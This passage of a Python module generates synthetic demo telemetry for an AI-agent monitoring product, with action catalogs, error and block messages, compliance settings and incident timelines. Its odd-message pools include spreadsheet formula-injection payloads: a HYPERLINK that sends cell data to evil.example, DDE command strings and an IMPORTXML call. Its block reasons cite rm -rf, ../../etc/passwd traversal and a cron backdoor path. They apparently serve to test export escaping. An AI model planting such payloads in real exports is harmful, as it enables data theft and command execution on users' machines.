    _a("iam_role_update", "security", 0.0, 0.0, 600, 0.5, 0.10, 0.45, "critical", 0.0, [
        {"principal": "svc-orders", "role": "roles/storage.admin", "action": "add"},
        {"principal": "agent-runner", "role": "roles/owner", "action": "add"},
    ], {"applied": True}),
    _a("user_permission_grant", "security", 0.0, 0.0, 300, 0.5, 0.08, 0.45, "critical", 0.0, [
        {"user": "heidi", "permission": "billing:write"},
        {"user": "mallory", "permission": "org:admin"},
    ], {"granted": True}),
    _a("vulnerability_scan", "security", 0.002, 0.4, 30_000, 0.6, 0.12, 0.00, "medium", 0.0, [
        {"target": "registry.acme.example.com/orders:1.42.0", "scanner": "trivy"},
        {"target": "https://portal.umbrella.example.com", "scanner": "zap"},
    ], {}, "findings", 6),
    _a("pii_redact", "security", 0.0003, 0.3, 150, 0.5, 0.05, 0.00, "medium", 0.0, [
        {"text_length": 2048, "entities": "EMAIL,PHONE,IBAN"},
        {"text_length": 512, "entities": "NAME,DOB,SSN"},
    ], {}, "redactions", 3),
    # health
    _a("ehr_record_read", "health", 0.0008, 0.3, 400, 0.6, 0.09, 0.12, "high", 0.2, [
        {"system": "epic", "patient_ref": "PT-0004812", "fields": "allergies,medications"},
        {"system": "epic", "patient_ref": "PT-0019930", "fields": "encounters"},
    ], {}, "records", 3),
    _a("lab_result_fetch", "health", 0.0004, 0.3, 300, 0.6, 0.09, 0.04, "medium", 0.2, [
        {"order_id": "LAB-2024-55120", "panel": "CBC"},
        {"order_id": "LAB-2024-55187", "panel": "HbA1c"},
    ], {}, "results", 8),
    # browser
    _a("browser_navigate", "browser", 0.0002, 0.3, 1800, 0.6, 0.12, 0.04, "medium", 0.0, [
        {"url": "https://portal.partner.example/login"},
        {"url": "https://supplier.example.co.jp/注文"},
    ], {"status": 200}, "load_ms", 900),
    _a("browser_click", "browser", 0.0001, 0.3, 400, 0.6, 0.12, 0.04, "medium", 0.0, [
        {"selector": "button#submit", "page": "https://portal.partner.example/invoices"},
        {"selector": "a[href=\"/export\"]", "page": "https://portal.partner.example/reports"},
    ], {"navigated": True}),
    _a("translate_text", "browser", 0.0002, 0.4, 300, 0.5, 0.05, 0.00, "low", 0.0, [
        {"source": "de", "target": "en", "text": "Sehr geehrte Damen und Herren, vielen Dank für Ihre Anfrage."},
        {"source": "ja", "target": "en", "text": "東京の会議は延期されました"},
    ], {}, "characters", 300),
)

_ACTION_INDEX = {a.name: i for i, a in enumerate(_CATALOG)}
assert len(_ACTION_INDEX) == len(_CATALOG)


def demo_action_names() -> list[str]:
    """The names of the demo action types."""
    return [a.name for a in _CATALOG]


_PROFILES: dict[str, dict[str, float]] = {
    "assistant": {"llm_chat_claude": 10, "llm_completion": 8, "llm_embedding": 6, "vector_search": 6,
                  "web_search": 5, "http_request": 6, "file_read": 4, "send_email": 2,
                  "send_slack_message": 3, "translate_text": 2, "browser_navigate": 2,
                  "browser_click": 2, "create_calendar_event": 1, "llm_moderation": 3,
                  "pii_redact": 1, "database_query": 3, "cache_get": 3},
    "data": {"database_query": 30, "database_write": 8, "cache_get": 8, "cache_set": 4,
             "s3_get_object": 5, "s3_put_object": 4, "bigquery_job": 2, "csv_parse": 4,
             "data_export": 1, "vector_upsert": 3, "llm_embedding": 4, "database_migration": 0.3,
             "file_read": 3, "file_write": 2, "http_request": 4, "llm_classify": 2, "graphql_query": 2},
    "devops": {"shell_exec": 12, "python_exec": 5, "git_clone": 4, "git_commit": 4, "git_push": 3,
               "docker_build": 3, "k8s_deploy": 1.5, "terraform_apply": 0.8, "ci_trigger": 3,
               "file_read": 6, "file_write": 4, "file_delete": 1, "directory_list": 3,
               "http_request": 5, "secrets_read": 1.5, "llm_code_generation": 3, "database_query": 4,
               "llm_completion": 2},
    "support": {"ticket_create": 6, "ticket_update": 8, "crm_lookup": 8, "kb_search": 8,
                "llm_chat_claude": 8, "llm_classify": 5, "send_email": 6, "send_slack_message": 3,
                "database_query": 6, "http_request": 3, "llm_moderation": 2, "translate_text": 2,
                "pii_redact": 2, "refund_issue": 0.5},
    "research": {"web_search": 10, "web_scrape": 6, "http_request": 6, "llm_summarize": 8,
                 "llm_chat_gpt4": 4, "llm_chat_claude": 4, "llm_embedding": 4, "vector_search": 5,
                 "vector_upsert": 3, "pdf_extract": 3, "file_write": 2, "llm_rerank": 3,
                 "browser_navigate": 2},
    "codegen": {"llm_code_generation": 10, "llm_chat_gpt4": 6, "git_clone": 3, "git_commit": 4,
                "git_push": 2, "file_read": 8, "file_write": 5, "python_exec": 4, "shell_exec": 2,
                "ci_trigger": 2, "directory_list": 3},
    "finance": {"payment_transfer": 4, "invoice_create": 8, "refund_issue": 2, "ledger_reconcile": 5,
                "currency_convert": 4, "database_query": 10, "database_write": 4, "send_email": 4,
                "pdf_extract": 2, "llm_classify": 2, "http_request": 4, "crm_lookup": 2},
    "security": {"vulnerability_scan": 6, "secrets_read": 3, "iam_role_update": 1,
                 "user_permission_grant": 1, "database_query": 4, "http_request": 4, "file_read": 4,
                 "llm_classify": 3, "pii_redact": 3, "shell_exec": 2, "directory_list": 3},
    "sales": {"crm_lookup": 10, "crm_update": 6, "send_email": 8, "llm_chat_claude": 6,
              "llm_completion": 5, "web_search": 4, "create_calendar_event": 4, "send_sms": 1,
              "social_post": 1, "database_query": 3},
    "reporting": {"database_query": 12, "bigquery_job": 3, "llm_summarize": 6, "pdf_extract": 2,
                  "csv_parse": 4, "file_write": 4, "send_email": 3, "data_export": 2,
                  "s3_put_object": 2, "llm_chat_gpt4": 2, "ocr_document": 1},
    "health": {"ehr_record_read": 10, "lab_result_fetch": 8, "llm_chat_claude": 4, "llm_summarize": 4,
               "pii_redact": 4, "database_query": 6, "send_email": 1, "llm_vision": 2,
               "ocr_document": 3, "http_request": 3, "webhook_dispatch": 2, "send_sms": 1},
    # prod-agent-30 during the cost spike: a loop of large-context LLM calls
    "runaway": {"llm_chat_gpt4": 50, "llm_code_generation": 30, "llm_completion": 10,
                "file_read": 5, "python_exec": 5},
}
_PROFILE_NAMES = tuple(_PROFILES)
_RUNAWAY_PROFILE = _PROFILE_NAMES.index("runaway")
_used = {name for weights in _PROFILES.values() for name in weights}
assert _used == set(_ACTION_INDEX), sorted(_used ^ set(_ACTION_INDEX))

# Actions hit by the incident (shared network / database infrastructure degraded).
_INCIDENT_ACTIONS = ("database_query", "database_write", "http_request", "graphql_query",
                     "webhook_dispatch", "cache_get", "cache_set", "s3_get_object",
                     "vector_search", "crm_lookup", "web_search", "lab_result_fetch")
_INCIDENT_ERR_MULT = 10.0
_INCIDENT_ERR_CAP = 0.6

# --- messages -----------------------------------------------------------------------------

# Error messages, most common first (a pool's first messages are drawn more often). A pool
# is chosen by action name, else by category.
_ERRORS: dict[str, list[str]] = {
    "llm": [
        "rate_limit_exceeded: Rate limit reached for requests per min (RPM): limit 500, used 500",
        "model overloaded, please retry",
        "HTTP 500 from api.openai.com",
        "context_length_exceeded: maximum context length is 128000 tokens, request had 131072",
        "HTTP 529 from api.anthropic.com: overloaded_error",
        "invalid JSON in function call arguments: Expecting ',' delimiter: line 1 column 58",
        "request timed out after 600000ms",
    ],
    "database_query": [
        "canceling statement due to statement timeout",
        "connection timeout after 30000ms",
        "too many connections for role \"agent_rw\"",
        "relation \"orders_archive\" does not exist",
        "column \"customer_email\" does not exist, did you mean \"email\"?",
        "could not serialize access due to concurrent update",
    ],
    "database_write": [
        "deadlock detected while waiting for ShareLock on transaction 48213",
        "duplicate key value violates unique constraint \"orders_pkey\"",
        "connection timeout after 30000ms",
        "could not serialize access due to concurrent update",
        "value too long for type character varying(64)",
    ],
    "database_migration": [
        "lock timeout: relation \"orders\" is locked by another transaction",
        "column \"refund_reason\" of relation \"orders\" already exists",
        "connection timeout after 30000ms",
    ],
    "cache_get": [
        "Redis timeout after 500ms",
        "ConnectionError: Error 111 connecting to redis.internal:6379. Connection refused.",
        "-ERR Redis OOM command not allowed when used memory > 'maxmemory'",
    ],
    "cache_set": [
        "-ERR Redis OOM command not allowed when used memory > 'maxmemory'",
        "Redis timeout after 500ms",
        "ConnectionError: Error 111 connecting to redis.internal:6379. Connection refused.",
    ],
    "s3_get_object": [
        "NoSuchKey: The specified key does not exist.",
        "SlowDown: Please reduce your request rate. (S3, status 503)",
        "AccessDenied: Access Denied",
    ],
    "s3_put_object": [
        "SlowDown: Please reduce your request rate. (S3, status 503)",
        "AccessDenied: Access Denied",
        "EntityTooLarge: Your proposed upload exceeds the maximum allowed size",
    ],
    "data": [
        "connection timeout after 30000ms",
        "Quota exceeded: Your project exceeded quota for concurrent queries",
        "PDFSyntaxError: No /Root object! - Is this really a PDF?",
        "OCR confidence 0.41 below threshold 0.80",
        "vector index 'kb-articles' is rebuilding, try again later",
        "csv.Error: field larger than field limit (131072)",
    ],
    "web": [
        "HTTP 503 from api.example.com",
        "HTTP 429 Too Many Requests from api.partner.example (retry after 30s)",
        "connection timeout after 30000ms",
        "HTTP 502 Bad Gateway from gateway.example.net",
        "SSL: CERTIFICATE_VERIFY_FAILED, certificate has expired",
        "DNS resolution failed for internal-api.example.com",
        "HTTP 404 from https://news.example.org/tech?page=2&sort=new",
    ],
    "send_email": [
        "SMTP 421 service not available, closing transmission channel",
        "SMTP 550 5.1.1 <bob@globex.example.com>: Recipient address rejected",
        "SMTP 552 message size exceeds fixed maximum message size",
    ],
    "send_slack_message": [
        "HTTP 429 from slack.com: ratelimited",
        "channel_not_found: #finance-eu",
        "@channel mention in #legal rejected by Slack API (restricted_action)",
    ],
    "send_sms": [
        "Twilio error 21610: recipient has unsubscribed",
        "+1 (555) 010-0199: phone number rejected by SMS gateway",
    ],
    "comms": [
        "HTTP 409 from calendar API: conflicting event",
        "HTTP 403 from api.linkedin.com: access token expired",
    ],
    "files": [
        "FileNotFoundError: [Errno 2] No such file or directory: '/srv/agent/workspace/reports/Q3, final.csv'",
        "PermissionError: [Errno 13] Permission denied: '/srv/agent/workspace/secrets.env'",
        "UnicodeDecodeError: 'utf-8' codec can't decode byte 0xe9 in position 1042: invalid continuation byte",
        "OSError: [Errno 122] Disk quota exceeded",
    ],
    "shell_exec": [
        "command exited with status 1",
        "command exited with status 127: bash: kubectl: command not found",
        "killed after exceeding 300000ms time limit",
        "Permission denied (publickey).",
    ],
    "python_exec": [
        "Traceback (most recent call last):\n  File \"/app/run.py\", line 12, in <module>\nKeyError: 'customer_id'",
        "ModuleNotFoundError: No module named 'openpyxl'",
        "killed after exceeding 300000ms time limit",
        "MemoryError",
    ],
    "devops": [
        "error: failed to push some refs to 'github.com:acme/orders-service.git'",
        "fatal: could not read from remote repository",
        "failed to solve: process \"/bin/sh -c pip install -r requirements.txt\" "
        "did not complete successfully: exit code: 1",
        "deployment \"orders\" exceeded its progress deadline",
        "ImagePullBackOff: registry.acme.example.com/orders:1.42.0 not found",
        "Error: Error acquiring the state lock: ConditionalCheckFailedException",
        "pipeline failed: 3 of 812 tests failed",
    ],
    "finance": [
        "card_declined: insufficient_funds",
        "HTTP 402 from api.stripe.com",
        "idempotency_key reused with different parameters",
        "currency mismatch: invoice in EUR, account in USD",
        "charge ch_3NqLmD2eZvKYlo2C has already been refunded",
        "12 unmatched entries, tolerance of 0.01 exceeded",
    ],
    "crm": [
        "HTTP 429 from acme.zendesk.com: rate limit, retry after 60s",
        "connection timeout after 30000ms",
        "INVALID_FIELD: No such column 'Region__c' on entity 'Contact'",
    ],
    "security": [
        "permission denied: token lacks scope \"vault:read\"",
        "HTTP 403 from iam.googleapis.com: caller does not have permission",
        "scan aborted: target unreachable",
    ],
    "health": [
        "HTTP 503 from fhir.umbrella.example.com",
        "HL7 FHIR OperationOutcome: patient record locked by another session",
        "connection timeout after 30000ms",
    ],
    "browser": [
        "TimeoutError: waiting for selector \"button#submit\" failed: timeout 30000ms exceeded",
        "net::ERR_NAME_NOT_RESOLVED at https://portal.partner.example/login",
        "page crashed",
    ],
}
_MESSAGE_SKEW = 1.6  # pick = floor(count * u ** skew): earlier messages are more common

# Messages carried in the data on purpose: commas, quotes, newlines, non-ASCII text and
# leading characters that a spreadsheet would run as a formula. Any error may get one.
_ODD_ERRORS: tuple[str, ...] = (
    "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click to fix\")",
    "=cmd|' /C calc'!A0 (returned by tool output)",
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "@SUM(A1:A10) injected by upstream tool",
    "-2+3 evaluated unexpectedly in tool output",
    "naïve datetime passed where a timezone-aware one was expected (tz=Asia/Tokyo, 東京)",
    "tool returned malformed CSV: \"id\",\"name\"\n\"1\",\"O'Brien, Pat\"",
    "Zeichenkodierung fehlerhaft: Dateiname „Bericht_März.pdf“ enthält ungültige Zeichen",
    "\tunexpected leading tab in tool output",
    "JSON decode error: Unterminated string starting at: line 1 column 17 (char 16) — got '{\"a\": \"b'",
)
_ODD_ERROR_RATE = 0.01

_INCIDENT_ERRORS: tuple[str, ...] = (
    "connection timeout after 30000ms",
    "HTTP 503 from api.example.com",
    "connection timeout after 30000ms",
    "could not connect to server: Connection refused (db-primary.internal:5432)",
)
_INCIDENT_MESSAGE_SHARE = 0.85

# Blocked reasons, most common first; chosen by action name, else by category.
_BLOCKS: dict[str, list[str]] = {
    "llm": [
        "Prompt injection detected in tool output",
        "Monthly token budget for this agent exceeded",
        "Content policy: request classified as disallowed",
    ],
    "data": [
        "Query touches table payroll.salaries, which agents may not read",
        "Destination bucket is publicly readable",
    ],
    "data_export": [
        "Export of more than 10,000 rows containing PII requires approval",
        "Destination gs://partner-share/ is outside the organization",
    ],
    "database_migration": [
        "Schema migrations in production require a change ticket",
    ],
    "database_write": [
        "Writes to production databases require an approved change window",
        "UPDATE without WHERE clause refused",
    ],
    "web": [
        "Domain blocked by egress policy: pastebin.com",
        "URL is on the threat-intelligence blocklist",
        "robots.txt disallows crawling this path",
    ],
    "send_email": [
        "Recipient domain gmail.com is not on the allowlist",
        "PII detected in outbound message (credit card number)",
        "Attachment classified confidential cannot be sent externally",
    ],
    "social_post": [
        "Public posts require marketing approval",
    ],
    "comms": [
        "PII detected in outbound message (phone number)",
        "Messages to external channels are not allowed",
    ],
    "files": [
        "File operation outside the allowed workspace /srv/agent/workspace",
        "Path traversal attempt: ../../etc/passwd",
    ],
    "file_delete": [
        "Deleting files requires human approval",
        "File operation outside the allowed workspace /srv/agent/workspace",
    ],
    "shell_exec": [
        "Policy SEC-7: command matches denylist pattern 'rm -rf'",
        "sudo is not permitted for agents",
        "Policy SEC-7: outbound network access from shell is not allowed",
        "Command writes outside sandbox: /etc/cron.d/backdoor",
    ],
    "git_push": [
        "Force-push to protected branch main is not allowed",
        "Direct pushes to main require a reviewed pull request",
    ],
    "devops": [
        "Production deploys are frozen (change freeze until Monday 09:00 UTC)",
        "terraform apply on workspace prod requires a human approval",
        "Code execution sandbox: network access is not allowed",
    ],
    "payment_transfer": [
        "Amount $12,500.00 exceeds single-transfer limit of $10,000.00; requires human approval",
        "Beneficiary is not on the approved vendor list",
        "Transfers outside business hours require dual approval",
    ],
    "finance": [
        "Refunds above $500.00 require approval by an org_admin",
        "Invoice amount differs from the purchase order by more than 5%",
    ],
    "crm": [
        "Bulk export of contacts is not allowed for agents",
    ],
    "secrets_read": [
        "Agents may not read production secrets",
    ],
    "security": [
        "Permission grants require org_admin approval",
        "Privilege escalation attempt: role roles/owner",
    ],
    "health": [
        "PHI access requires an active treatment relationship",
        "Minimum necessary rule: bulk record access denied",
    ],
    "browser": [
        "Domain blocked by egress policy: file-sharing.example",
        "Form submission to an external site requires approval",
    ],
}
_ODD_BLOCKS: tuple[str, ...] = (
    "=IMPORTXML(\"http://evil.example/x\",\"//a\") found in tool output; blocked",
    "Kill switch engaged by operator \"erin\", reason: runaway loop, see #incident-118",
    "Rate limit: agent exceeded 120 actions/min",
)
_ODD_BLOCK_RATE = 0.02

# Messages that imply a duration (a timeout is as long as its limit).
_MESSAGE_DURATION_MS = {
    "connection timeout after 30000ms": 30000,
    "request timed out after 600000ms": 600000,
    "killed after exceeding 300000ms time limit": 300000,
    "TimeoutError: waiting for selector \"button#submit\" failed: timeout 30000ms exceeded": 30000,
}

# --- compliance (Enterprise tier) ---------------------------------------------------------

_CLASSIFICATIONS = ("public", "internal", "confidential", "restricted")
# category: (policy id, major version, classification probabilities, P(pii), frameworks,
#            retention years)
_COMPLIANCE: dict[str, tuple[str, int, tuple[float, float, float, float], float, tuple[str, ...], int]] = {
    "llm": ("POL-AI-001", 3, (0.10, 0.50, 0.35, 0.05), 0.08, ("EU_AI_ACT", "SOC2"), 3),
    "data": ("POL-DATA-004", 2, (0.05, 0.35, 0.45, 0.15), 0.20, ("SOC2", "GDPR"), 5),
    "web": ("POL-NET-002", 1, (0.50, 0.40, 0.10, 0.00), 0.02, ("SOC2",), 1),
    "comms": ("POL-COMM-003", 2, (0.10, 0.50, 0.35, 0.05), 0.35, ("SOC2", "GDPR"), 3),
    "files": ("POL-DATA-004", 2, (0.10, 0.50, 0.30, 0.10), 0.10, ("SOC2",), 3),
    "devops": ("POL-SEC-007", 4, (0.00, 0.60, 0.35, 0.05), 0.01, ("SOC2", "ISO27001"), 3),
    "finance": ("POL-FIN-002", 5, (0.00, 0.10, 0.50, 0.40), 0.30, ("SOC2", "SOX", "PCI_DSS"), 7),
    "crm": ("POL-COMM-003", 2, (0.05, 0.40, 0.50, 0.05), 0.50, ("SOC2", "GDPR"), 3),
    "security": ("POL-SEC-007", 4, (0.00, 0.20, 0.50, 0.30), 0.02, ("SOC2", "ISO27001"), 7),
    "health": ("POL-PHI-001", 1, (0.00, 0.00, 0.20, 0.80), 0.90, ("HIPAA", "SOC2"), 6),
    "browser": ("POL-NET-002", 1, (0.40, 0.50, 0.10, 0.00), 0.03, ("SOC2",), 1),
}
_REVIEWERS = ("bob", "erin", "acme-compliance-team")
_DECISIONS = ("allow", "deny", "review")

# --- the time line ------------------------------------------------------------------------

_US_PER_HOUR = 3_600_000_000
_US_PER_DAY = 86_400_000_000
_EPOCH = _dt.date(1970, 1, 1)
_PERIOD_MONTHS = 18
_INCIDENT_DAYS_BEFORE_END = 58  # first day of the incident: about 8 weeks before end
_INCIDENT_LENGTH_DAYS = 3
_SPIKE_DAYS_BEFORE_END = 122  # first day of the cost spike: about 4 months before end
_SPIKE_LENGTH_DAYS = 7
_SPIKE_INTENSITY = 1.35
_SPIKE_AGENT_WEIGHT = 9.0
_SPIKE_PROMPT_FACTOR = 4.0
_SPIKE_COMPLETION_FACTOR = 1.5
_GROWTH = 4.0  # total activity at the end of the period vs its start
_HOURLY = (0.18, 0.15, 0.13, 0.12, 0.13, 0.18, 0.30, 0.50, 0.80, 0.95, 1.00, 1.00,
           0.85, 0.95, 1.00, 1.00, 0.95, 0.80, 0.60, 0.45, 0.38, 0.32, 0.27, 0.22)
_WEEKLY = (1.00, 1.03, 1.02, 1.00, 0.90, 0.35, 0.28)  # Monday first
_ORG_GROWTH = {"acme": (0.0, 3.0), "globex": (0.0, 6.0), "initech": (0.0, 1.5),
               "umbrella": (0.33, 4.0)}  # (onboarded at, growth factor while active)


def _shift_months(day: _dt.date, months: int) -> _dt.date:
    index = day.year * 12 + day.month - 1 + months
    year, month = divmod(index, 12)
    month += 1
    if month == 12:
        last = 31
    else:
        last = (_dt.date(year, month + 1, 1) - _dt.timedelta(days=1)).day
    return _dt.date(year, month, min(day.day, last))


def _utc_today() -> _dt.date:
    return _dt.datetime.now(_dt.timezone.utc).date()


def _as_date(end: _dt.date | None) -> _dt.date:
    if end is None:
        return _utc_today()
    if isinstance(end, _dt.datetime):
        if end.tzinfo is not None:
            end = end.astimezone(_dt.timezone.utc)
        return end.date()
    if isinstance(end, _dt.date):
        return end
    if isinstance(end, str):
        return _dt.date.fromisoformat(end)
    raise TypeError(f"end must be a date, not {type(end).__name__}")


def demo_period(end: _dt.date | None = None) -> tuple[_dt.date, _dt.date]:
    """First and last UTC day of the data set ending on `end` (default today): 18 months."""
    last = _as_date(end)
    return _shift_months(last, -_PERIOD_MONTHS) + _dt.timedelta(days=1), last


def _window(end: _dt.date | None, days_before: int, length: int) -> tuple[_dt.datetime, _dt.datetime]:
    first = _as_date(end) - _dt.timedelta(days=days_before)
    start = _dt.datetime.combine(first, _dt.time.min, tzinfo=_dt.timezone.utc)
    return start, start + _dt.timedelta(days=length)


def incident_window(end: _dt.date | None = None) -> tuple[_dt.datetime, _dt.datetime]:
    """[start, stop) in UTC of the incident (error spike), about 8 weeks before `end`."""
    return _window(end, _INCIDENT_DAYS_BEFORE_END, _INCIDENT_LENGTH_DAYS)


def cost_spike_window(end: _dt.date | None = None) -> tuple[_dt.datetime, _dt.datetime]:
    """[start, stop) in UTC of the week where runaway prod-agent-30 drives LLM spend up."""
    return _window(end, _SPIKE_DAYS_BEFORE_END, _SPIKE_LENGTH_DAYS)


# --- vectorised tables --------------------------------------------------------------------

def _build_tables() -> dict[str, Any]:
    n_act = len(_CATALOG)
    t: dict[str, Any] = {}
    t["names"] = np.array([a.name for a in _CATALOG], dtype=object)
    t["category"] = np.array([_CATEGORIES.index(a.category) for a in _CATALOG], dtype=np.int64)
    t["cost"] = np.array([a.cost for a in _CATALOG])
    t["cost_sigma"] = np.array([a.cost_sigma for a in _CATALOG])
    t["duration"] = np.array([a.duration for a in _CATALOG])
    t["duration_sigma"] = np.array([a.duration_sigma for a in _CATALOG])
    t["risk"] = np.array([_RISKS.index(a.risk) for a in _CATALOG], dtype=np.int64)
    t["bump"] = np.array([a.bump for a in _CATALOG])
    t["is_llm"] = np.array([a.llm is not None for a in _CATALOG])
    t["price_in"] = np.array([a.llm[1] if a.llm else 0.0 for a in _CATALOG])
    t["price_out"] = np.array([a.llm[2] if a.llm else 0.0 for a in _CATALOG])
    t["prompt_tokens"] = np.array([a.llm[3] if a.llm else 0 for a in _CATALOG], dtype=float)
    t["completion_tokens"] = np.array([a.llm[4] if a.llm else 0 for a in _CATALOG], dtype=float)
    t["ms_per_token"] = np.array([a.llm[5] if a.llm else 0.0 for a in _CATALOG])
    t["model"] = [a.llm[0] if a.llm else None for a in _CATALOG]
    t["incident"] = np.array([a.name in _INCIDENT_ACTIONS for a in _CATALOG])
    t["output"] = [a.output for a in _CATALOG]
    t["output_key"] = [a.output_key for a in _CATALOG]
    t["output_scale"] = np.array([a.output_scale for a in _CATALOG])

    inputs: list[dict[str, Any]] = []
    in_off, in_cnt = [], []
    for a in _CATALOG:
        in_off.append(len(inputs))
        in_cnt.append(len(a.inputs))
        inputs.extend(a.inputs)
    t["inputs"] = inputs
    t["input_offset"] = np.array(in_off, dtype=np.int64)
    t["input_count"] = np.array(in_cnt, dtype=np.int64)

    # messages: one list, each action has a contiguous range of it
    messages: list[str] = []

    def pool(items: list[str] | tuple[str, ...]) -> tuple[int, int]:
        start = len(messages)
        messages.extend(items)
        return start, len(items)

    err_pools = {key: pool(msgs) for key, msgs in _ERRORS.items()}
    blk_pools = {key: pool(msgs) for key, msgs in _BLOCKS.items()}
    t["odd_error_pool"] = pool(_ODD_ERRORS)
    t["odd_block_pool"] = pool(_ODD_BLOCKS)
    t["incident_pool"] = pool(_INCIDENT_ERRORS)
    err_of = [err_pools[a.name if a.name in err_pools else a.category] for a in _CATALOG]
    t["err_offset"] = np.array([off for off, _ in err_of], dtype=np.int64)
    t["err_count"] = np.array([cnt for _, cnt in err_of], dtype=np.int64)
    blk_of = [blk_pools[a.name if a.name in blk_pools else a.category] for a in _CATALOG]
    t["blk_offset"] = np.array([off for off, _ in blk_of], dtype=np.int64)
    t["blk_count"] = np.array([cnt for _, cnt in blk_of], dtype=np.int64)
    messages.append(None)  # type: ignore[arg-type]  # index -1: no message
    t["messages"] = np.array(messages, dtype=object)
    t["message_duration"] = np.array([_MESSAGE_DURATION_MS.get(m, 0) for m in messages], dtype=np.int64)

    # agents
    n_ag = len(_AGENTS)
    t["agent_names"] = np.array([a[0] for a in _AGENTS], dtype=object)
    t["agent_org"] = np.array([_ORG_INDEX[a[1]] for a in _AGENTS], dtype=np.int64)
    t["agent_profile"] = np.array([_PROFILE_NAMES.index(a[2]) for a in _AGENTS], dtype=np.int64)
    t["agent_weight"] = np.array([a[3] for a in _AGENTS])
    t["agent_start"] = np.array([max(a[4], _ORG_GROWTH[a[1]][0]) for a in _AGENTS])
    t["agent_env"] = np.array(["staging" if a[0].startswith("staging-") else "prod" for a in _AGENTS],
                              dtype=object)
    t["agent_region"] = np.array([_REGIONS[0 if a[1] == "acme" else (i % len(_REGIONS))]
                                  for i, a in enumerate(_AGENTS)], dtype=object)
    t["agent_err_mult"] = np.array([_AGENT_ERR_MULT.get(a[0], 1.0) for a in _AGENTS])
    t["agent_blk_mult"] = np.array([_AGENT_BLOCK_MULT.get(a[0], 1.0) for a in _AGENTS])
    n_users = len(_USERS)
    agent_users = np.zeros((n_ag, n_users))
    for i, a in enumerate(_AGENTS):
        for uid, w in a[5].items():
            assert _USERS[_USER_INDEX[uid]][2] == a[1], (a[0], uid)
            agent_users[i, _USER_INDEX[uid]] = w
    t["agent_user_cum"] = _row_cumsum(agent_users)
    t["user_names"] = np.array([u[0] for u in _USERS], dtype=object)
    t["org_names"] = np.array([o.id for o in _ORGS], dtype=object)

    # profiles
    prof = np.zeros((len(_PROFILE_NAMES), n_act))
    for p, weights in enumerate(_PROFILES.values()):
        for name, w in weights.items():
            prof[p, _ACTION_INDEX[name]] = w
    t["profile_cum"] = _row_cumsum(prof)

    # Calibrate the error and block rates so that, over the agents' long-run mix, outcomes
    # come out at about 85 % success / 10 % error / 5 % blocked.
    share = t["agent_weight"] * (1.0 - t["agent_start"])
    prof_p = prof / prof.sum(axis=1, keepdims=True)
    mix = (share[:, None] * prof_p[t["agent_profile"]])  # agent x action
    mix /= mix.sum()
    base_err = np.array([a.err for a in _CATALOG])
    base_blk = np.array([a.block for a in _CATALOG])
    exp_err = float((mix * base_err[None, :] * t["agent_err_mult"][:, None]).sum())
    exp_blk = float((mix * base_blk[None, :] * t["agent_blk_mult"][:, None]).sum())
    t["err"] = np.minimum(base_err * (0.10 / exp_err), 0.5)
    t["block"] = np.minimum(base_blk * (0.05 / exp_blk), 0.45)

    # compliance
    t["policy_ids"] = [_COMPLIANCE[c][0] for c in _CATEGORIES]
    t["policy_versions"] = np.array([f"{_COMPLIANCE[c][1]}.{minor}" for c in _CATEGORIES for minor in range(3)],
                                    dtype=object)
    t["class_cum"] = _row_cumsum(np.array([_COMPLIANCE[c][2] for c in _CATEGORIES]))
    t["pii_p"] = np.array([_COMPLIANCE[c][3] for c in _CATEGORIES])
    fw: list[tuple[str, ...]] = []
    for c in _CATEGORIES:
        base = _COMPLIANCE[c][4]
        fw.append(base)
        fw.append(base if "GDPR" in base else base + ("GDPR",))
    t["frameworks"] = fw  # index 2*category + pii
    t["retention_days"] = np.array([_COMPLIANCE[c][5] * 365 + _COMPLIANCE[c][5] // 4 for c in _CATEGORIES],
                                   dtype=np.int64)
    return t


def _row_cumsum(weights: np.ndarray) -> np.ndarray:
    """Row-normalised cumulative probabilities, each row ending exactly at 1.0."""
    cum = np.cumsum(weights / weights.sum(axis=1, keepdims=True), axis=1)
    cum[:, -1] = 1.0
    return cum


_T = _build_tables()
_ONE_MINUS = 1.0 - 1e-9


def _pick_rows(cum: np.ndarray, rows: np.ndarray, u: np.ndarray) -> np.ndarray:
    """For each i, a column drawn from the distribution of row `rows[i]` of `cum`."""
    n_cols = cum.shape[1]
    flat = (cum + np.arange(cum.shape[0])[:, None]).ravel()
    pos = np.searchsorted(flat, rows + np.minimum(u, _ONE_MINUS), side="right")
    return np.minimum(pos - rows * n_cols, n_cols - 1)


def _rows_to_str(rows: np.ndarray) -> list[str]:
    """ASCII rows of an (n, w + 1) uint8 array whose last column is a newline -> n strings."""
    return rows.tobytes().decode("ascii").split("\n")[:-1]


def _uuid_strings(rng: np.random.Generator, n: int) -> list[str]:
    """n random version 4 UUIDs in canonical text form, drawn from `rng`."""
    raw = np.frombuffer(rng.bytes(16 * n), dtype=np.uint8).reshape(n, 16).copy()
    raw[:, 6] = (raw[:, 6] & 0x0F) | 0x40  # version 4
    raw[:, 8] = (raw[:, 8] & 0x3F) | 0x80  # RFC 4122 variant
    out = np.full((n, 37), ord("-"), dtype=np.uint8)
    out[:, 36] = ord("\n")
    out[:, _HEX_HI] = _HEX_DIGITS[raw >> 4]
    out[:, _HEX_LO] = _HEX_DIGITS[raw & 0x0F]
    return _rows_to_str(out)


def _iso_strings(ts: np.ndarray) -> list[str]:
    """µs since the epoch -> 'YYYY-MM-DDTHH:MM:SS.ffffffZ' (as numpy's datetime_as_string)."""
    n = len(ts)
    if n == 0:
        return []
    day = ts // _US_PER_DAY
    first = int(day.min())
    n_days = int(day.max()) - first + 1
    dates = np.datetime_as_string(np.arange(first, first + n_days).astype("datetime64[D]"))
    table = np.frombuffer(dates.astype("S10").tobytes(), dtype=np.uint8).reshape(n_days, 10)
    rem = ts - day * _US_PER_DAY
    seconds, micros = np.divmod(rem, 1_000_000)
    hours, seconds = np.divmod(seconds, 3600)
    minutes, seconds = np.divmod(seconds, 60)
    packed = ((hours * 100 + minutes) * 100 + seconds) * 1_000_000 + micros  # HHMMSSffffff
    digits = (packed[:, None] // _POW10_12[None, :]) % 10
    out = np.empty((n, 28), dtype=np.uint8)
    out[:, :10] = table[day - first]
    out[:, _TIME_DIGIT_POS] = digits + ord("0")
    out[:, 10] = ord("T")
    out[:, 13] = ord(":")
    out[:, 16] = ord(":")
    out[:, 19] = ord(".")
    out[:, 26] = ord("Z")
    out[:, 27] = ord("\n")
    return _rows_to_str(out)


_HEX_DIGITS = np.frombuffer(b"0123456789abcdef", dtype=np.uint8)
_HEX_POS = np.array([i for i in range(36) if i not in (8, 13, 18, 23)])
_HEX_HI = _HEX_POS[0::2]
